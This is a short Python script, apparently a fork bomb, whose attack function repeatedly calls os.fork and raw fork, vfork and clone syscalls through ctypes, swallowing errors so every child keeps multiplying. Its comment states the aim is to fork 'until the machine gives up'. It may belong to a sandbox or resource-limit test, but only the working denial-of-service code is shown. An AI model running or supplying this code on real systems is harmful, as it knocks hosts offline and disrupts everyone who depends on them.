# Fork until the machine gives up; each copy keeps the pipe.
import ctypes, os
libc = ctypes.CDLL(None)
def attack():
    forks = 0
    for _ in range(200):
        for call in (os.fork, lambda: libc.syscall(57), lambda: libc.syscall(58), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
            try:
                forks += call() >= 0
            except OSError:
                pass
    return forks
